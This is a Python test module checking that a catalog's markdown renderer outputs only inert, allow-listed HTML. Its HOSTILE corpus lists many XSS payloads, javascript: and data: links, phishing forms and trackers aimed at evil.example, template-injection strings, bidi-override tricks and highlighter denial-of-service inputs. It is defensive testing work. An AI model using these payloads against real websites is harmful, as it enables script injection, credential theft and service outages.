"""Answers that want to do harm: whatever they hold, what comes out is inert and within limits."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalog.rendering import RenderPool, render
from catalog.rendering.code_block import CODE_CLASSES
from catalog.rendering.page import _CLEANER
from tests.catalog.test_rendering import Outline

ALIGNMENTS = {"align-left", "align-center", "align-right"}
PLAIN_TAGS = ["blockquote", "br", "em", "figcaption", "h4", "h5", "h6", "hr", "li", "p", "s"]
PLAIN_TAGS += ["strong", "table", "tbody", "thead", "tr", "ul"]
# Said a second time on purpose: the test does not believe the renderer's own allow-list.
ALLOWED: dict[str, set[str]] = {
    "a": {"href", "target", "rel"},
    "code": set(),
    "div": {"class", "tabindex", "role", "aria-label"},
    "figure": {"class"},
    "ol": {"start"},
    "pre": {"class", "tabindex", "role", "aria-label"},
    "span": {"class", "dir", "title", "data-char"},
    "td": {"class"},
    "th": {"class", "scope"},
} | {tag: set() for tag in PLAIN_TAGS}
CLASSES = ALIGNMENTS | {"rendered", "table", "code", "plain", "line", "hidden-char", "address"}
OUTWARD = re.compile(r"https?://(?:[a-z0-9_-]+\.)+[a-z][a-z0-9-]+\.?(?::\d+)?(?:[/?#]|$)|mailto:")
BIDI_AND_NUL = re.compile("[\x00\u202a-\u202e\u2066-\u2069]")


def harm(html: str) -> list[str]:
    """Everything in the HTML that has no business there."""
    page = Outline(html)
    found = []
    for tag, attributes in page.elements:
        found += [f"<{tag} {name}>" for name in attributes if name not in ALLOWED.get(tag, set())]
        found += [f"<{tag}>"] * (tag not in ALLOWED)
        found += [f"href {a}" for a in [attributes.get("href")] if a and not OUTWARD.match(a)]
        css = set((attributes.get("class") or "").split())
        found += [f"class {name}" for name in css - CLASSES - CODE_CLASSES]
    boxless = re.sub(r'<span class="hidden-char"[^>]*>[^<]*</span>', "", html)
    found += [f"U+{ord(char):04X} outside a box" for char in BIDI_AND_NUL.findall(boxless)]
    return found


def fenced(language: str, code: str) -> str:
    return f"```{language}\n{code}\n```"


HOSTILE = {
    # markup
    "script": "<script>alert(1)</script>",
    "script in other letters": "<ScRiPt\t>alert(1)</sCrIpT >",
    "script torn by a comment": "<scr<!-- -->ipt>alert(1)</script>",
    "closing what was never opened": "</p></div></main></body></html><h1>owned</h1>",
    "closing the code block": fenced("html", "</code></pre></figure><script>alert(1)</script>"),
    "closing inline code": "`</code><img src=x onerror=alert(1)>`",
    "image with handler": "<img src=x onerror=alert(1)>",
    "link with handler": '<a href="https://a.example" onmouseover="alert(1)">x</a>',
    "body with handler": "<body onload=alert(1)>",
    "details with handler": "<details open ontoggle=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg with a use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
    "iframe": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form that asks for a password": '<form action="https://evil.example"><input type=password>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link element": '<link rel=stylesheet href="https://evil.example/x.css">',
    "ids that shadow": '<a id="htmx" name="csrf">x</a><form id="config"></form>',
    "attributes of htmx": '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    "template element": "<template><script>alert(1)</script></template>",
    "noscript trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "unclosed tags": "<div><table><tr><td><b><i><a href='x'>" * 50,
    "unclosed comment": "before <!-- never closed",
    "cdata and instructions": "<![CDATA[<script>alert(1)</script>]]> <?xml version='1.0'?>",
    "template languages": "{{ settings.SECRET_KEY }} {% debug %} ${7*7} <%= 7*7 %>",
    "raw html in a list": "- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>",
    "raw html in a table": "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "raw html in a heading": "# <script>alert(1)</script>",
    # addresses
    "javascript": "[x](javascript:alert(1))",
    "javascript with a tab": "[x](java\tscript:alert(1)) [x](<java\tscript:alert(1)>)",
    "javascript with entities": "[x](&#106;avascript&colon;alert(1)) [x](javascript&#58;alert(1))",
    "javascript after a control": "[x](\x01javascript:alert(1)) [x](<\x0bjavascript:alert(1)>)",
    "javascript in an autolink": "<javascript:alert(1)>",
    "javascript in a reference": "[x]\n\n[x]: javascript:alert(1) 'title'",
    "vbscript and file": "[x](vbscript:msgbox) [x](file:///etc/passwd)",
    "data address": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data svg as an image": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "image of a tracker": "![](https://evil.example/pixel.gif?who=me)",
    "address without a scheme": "[x](//evil.example) ![x](//evil.example/x.png)",
    "backslash address": "[x](\\\\evil.example) [x](https:\\\\evil.example)",
    "own address": "[x](/accounts/logout/) [x](../admin/) [x](?vote=a)",
    "user name in an address": "[x](https://good.example@evil.example)",
    "title that breaks out": '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "quote in an address": '[x](https://a.example/"onmouseover="alert(1))',
    "look-alike host": "[x](https://аpple.com)",
    "blank in the host": "[x](<https://a.example .evil.example>)",
    "handler in the fence": fenced('python" onload="alert(1)', "x"),
    "class in the fence": fenced("{.python .htmx #id onclick=x}", "x"),
    # characters
    "nul": "a\0b `c\0d` [e\0f](https://a.example/\0) <\0script>",
    "override in prose": "if \u202eadmin\u202c { \u2066isolate\u2069 }",
    "override in code": fenced("c", "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */"),
    "override in a language": fenced("py\u202ethon", "x"),
    "override in a link": "[x](https://a.example/\u202egpj.exe)",
    "message in tag characters": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "obey") + "!",
    "half surrogates": "\ud800\udc00\udfff \ud83d",
    "towers of marks": ("Z" + "\u0300\u0315\u0362" * 200) * 20,
    "one word without end": "x" * 60_000,
    "separators of lines": "a\u2028b\u2029c\x0bd\x0ce\x85f\x1cg",
    # size and depth
    "two megabytes in a line": "x " * 1_000_000,
    "two megabytes of nul": "\0" * 2_000_000,
    "deep quotes": ">" * 30_000 + "x",
    "deep lists": "\n".join(" " * 2 * n + "- x" for n in range(200)),
    "lists in quotes": "> - " * 10_000 + "x",
    "deep emphasis": "*" * 30_000 + "x" + "*" * 30_000,
    "emphasis that never closes": "**a _b " * 8_000,
    "deep brackets": "[" * 60_000,
    "images in images": "![" * 10_000 + "](x)" * 10_000,
    "links that never close": "[a](" * 15_000,
    "references without end": "[x]: https://a.example/" + "y" * 1000 + "\n\n" + "[x] " * 15_000,
    "backticks of every length": " ".join("`" * n for n in range(1, 340)),
    "huge table": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|\n" * 3_000,
    "wide and long table": "|" + "a|" * 200 + "\n|" + "-|" * 200 + ("\n|" + "b|" * 200) * 100,
    "entities": "&amp;" * 12_000,
    "only line ends": "\n" * 60_000,
    "code of only line ends": fenced("python", "\n" * 60_000),
    "many code blocks": fenced("python", "x") * 3_000,
    # bombs for highlighters
    "java": fenced("java", "a " * 31_000),
    "makefile": fenced("makefile", "a" * 60_000),
    "makefile of blanks": fenced("makefile", "x" + " " * 60_000 + "y"),
    "typescript": fenced("typescript", "a<" * 31_000),
    "typescript templates": fenced("ts", "`${" * 20_000),
    "yaml": fenced("yaml", "a: " * 20_000),
    "yaml of blanks": fenced("yaml", " " * 60_000 + ":"),
    "c sharp": fenced("csharp", "a " * 31_000),
    "c sharp brackets": fenced("csharp", "a<" * 31_000),
    "xml": fenced("xml", "<a " * 20_000),
    "xml comments": fenced("xml", "<!--" * 15_000),
    "perl slashes": fenced("perl", "/" * 60_000),
    "haskell nested comments": fenced("haskell", "{-" * 30_000),
    "markdown in markdown": fenced("markdown", "~~~brainfuck\n" * 4_000),
}  # fmt: skip


@pytest.fixture(scope="module")
def pool():
    # Less time than in production, so that the bombs do not make this test slow.
    with RenderPool(children=1, seconds=0.5) as pool:
        yield pool


def test_the_corpus_is_large():
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_answer_comes_out_inert(pool, name):
    (rendered,) = pool.render_all([HOSTILE[name]])
    assert harm(rendered.html) == []
    assert len(rendered.html) < 5_000_000


@pytest.mark.parametrize("name", [name for name, text in HOSTILE.items() if len(text) < 500])
def test_a_short_hostile_answer_needs_no_fallback(name):
    assert render(HOSTILE[name]).method == "full"


def test_script_is_shown_as_the_text_it_is():
    assert Outline(render("<script>alert(1)</script>").html).text.strip() == (
        "<script>alert(1)</script>"
    )


@pytest.mark.parametrize("name", [name for name, text in HOSTILE.items() if "<" in text[:500]])
def test_the_allow_list_holds_without_the_renderer(name):
    found = harm(_CLEANER.clean(HOSTILE[name]))
    # Hosts and hidden characters are the renderer's business.
    assert [what for what in found if not what.startswith(("href http", "U+"))] == []


def test_this_test_would_see_harm():
    html = '<p onclick="x" class="y"><img src="z"><a href="/w">\u202e</a></img></p>'
    assert harm(html) == [
        "<p onclick>",
        "<p class>",
        "class y",
        "<img src>",
        "<img>",
        "href /w",
        "U+202E outside a box",
    ]


MARKS = st.text(alphabet="ab \n\t`~*_[]()<>!#|-:&;\\\"'/1.\0\r\u202e\u200d👍\ufe0f", max_size=120)
BRICKS = ["<script>", "javascript:", "```c\n", "](", "| a |\n|--|\n", "&#x202e;", "onerror="]
BRICKS += ["https://a.example", "> ", "- ", "\n\n", "<!--", '"']
WORDS = st.lists(st.sampled_from(BRICKS)).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(MARKS, WORDS, st.text(max_size=60)))
def test_no_mixture_of_marks_does_harm(text):
    assert harm(render(text).html) == []
